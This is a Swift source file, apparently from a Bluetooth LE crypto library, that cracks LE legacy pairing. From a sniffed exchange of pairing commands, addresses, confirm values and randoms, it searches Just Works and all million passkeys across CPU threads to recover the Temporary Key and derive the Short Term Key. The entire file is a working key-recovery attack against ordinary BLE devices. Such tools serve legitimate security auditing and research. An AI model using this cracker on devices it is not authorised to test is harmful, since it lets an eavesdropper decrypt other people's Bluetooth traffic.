public import BLECrypto
import Dispatch
import Foundation
import Synchronization

/// What a sniffed LE legacy pairing exposes: both pairing commands, both addresses, both confirm
/// values and both randoms (Vol 3 Part H 2.3.5.5). The case without the confirm values (where
/// only an encrypted PDU can test a TK) is not handled.
public struct LegacyPairing: Sendable, Hashable {
    public var inputs: C1Inputs
    public var mconfirm: Value128
    public var sconfirm: Value128
    public var mrand: Value128
    public var srand: Value128

    public init(inputs: C1Inputs, mconfirm: Value128, sconfirm: Value128, mrand: Value128, srand: Value128) {
        self.inputs = inputs
        self.mconfirm = mconfirm
        self.sconfirm = sconfirm
        self.mrand = mrand
        self.srand = srand
    }
}

/// A TK that produces both confirm values, and the STK it gives.
public struct CrackedPairing: Sendable, Hashable {
    /// The passkey (0 to 999999; 0 is also Just Works's TK).
    public var passkey: UInt32
    public var tk: Value128 { Value128(UInt64(passkey)) }
    /// STK = s1(TK, Srand, Mrand).
    public var stk: Value128
}

/// The TK search of legacy pairing: Just Works (TK 0) first, then every passkey 0 to 999999,
/// split over the processor's cores. Each thread has its own AES context; nothing is shared but
/// the found passkey.
public enum LegacyPairingCrack {
    public static let passkeyCount: UInt32 = 1_000_000

    /// The TK (as a passkey) and STK of `pairing`, or nil when no passkey matches (an OOB TK).
    /// `progress`, when given, hears of every 1,024 passkeys a thread tries and is cleared at
    /// the end.
    public static func crack(
        _ pairing: LegacyPairing,
        threads: Int = ProcessInfo.processInfo.activeProcessorCount,
        progress: CrackProgress? = nil
    ) throws(CryptoError) -> CrackedPairing? {
        let aes = try AES128()
        if try matches(0, pairing, aes), let justWorks = try cracked(0, pairing, aes) { return justWorks }
        let workers = max(1, min(threads, 64))
        let found = Found()
        DispatchQueue.concurrentPerform(iterations: workers) { worker in
            found.record(search(pairing, worker: worker, of: workers, stop: found, progress: progress))
        }
        progress?.clear()
        if let failure = found.failure { throw failure }
        guard let passkey = found.passkey else { return nil }
        return try cracked(passkey, pairing, aes)
    }

    /// Whether TK `passkey` gives Mconfirm: c1(TK, Mrand, ...) = Mconfirm.
    static func matches(_ passkey: UInt32, _ pairing: LegacyPairing, _ aes: AES128) throws(CryptoError) -> Bool {
        try aes.c1(k: Value128(UInt64(passkey)), r: pairing.mrand, pairing.inputs) == pairing.mconfirm
    }

    /// The result for a passkey that gives Mconfirm, when it gives Sconfirm too.
    static func cracked(_ passkey: UInt32, _ pairing: LegacyPairing, _ aes: AES128) throws(CryptoError)
        -> CrackedPairing?
    {
        let tk = Value128(UInt64(passkey))
        guard try aes.c1(k: tk, r: pairing.srand, pairing.inputs) == pairing.sconfirm else { return nil }
        return CrackedPairing(passkey: passkey, stk: try aes.s1(k: tk, r1: pairing.srand, r2: pairing.mrand))
    }

    /// One thread's share: passkeys from 1 whose index modulo `workers` is `worker`, stopping when
    /// another thread has found one.
    static func search(
        _ pairing: LegacyPairing,
        worker: Int,
        of workers: Int,
        stop: Found,
        progress: CrackProgress? = nil
    ) -> Result<UInt32?, CryptoError> {
        do throws(CryptoError) {
            let aes = try AES128()
            var passkey = UInt32(1 + worker)
            var tried = 0
            while passkey < passkeyCount {
                tried += 1
                if tried % 1024 == 0 {
                    if stop.isDone { return .success(nil) }
                    progress?.add(1024)
                }
                if try matches(passkey, pairing, aes), try cracked(passkey, pairing, aes) != nil {
                    return .success(passkey)
                }
                passkey += UInt32(workers)
            }
            return .success(nil)
        } catch {
            return .failure(error)
        }
    }
}

/// The search's shared outcome: the passkey found first, or the first failure.
final class Found: Sendable {
    private let state = Mutex<(passkey: UInt32?, failure: CryptoError?)>((nil, nil))
    private let done = Atomic<Bool>(false)

    var isDone: Bool { done.load(ordering: .relaxed) }
    var passkey: UInt32? { state.withLock { $0.passkey } }
    var failure: CryptoError? { state.withLock { $0.failure } }

    func record(_ result: Result<UInt32?, CryptoError>) {
        switch result {
        case .success(nil): return
        case .success(let passkey?): state.withLock { if $0.passkey == nil { $0.passkey = passkey } }
        case .failure(let error): state.withLock { if $0.failure == nil { $0.failure = error } }
        }
        done.store(true, ordering: .relaxed)
    }
}
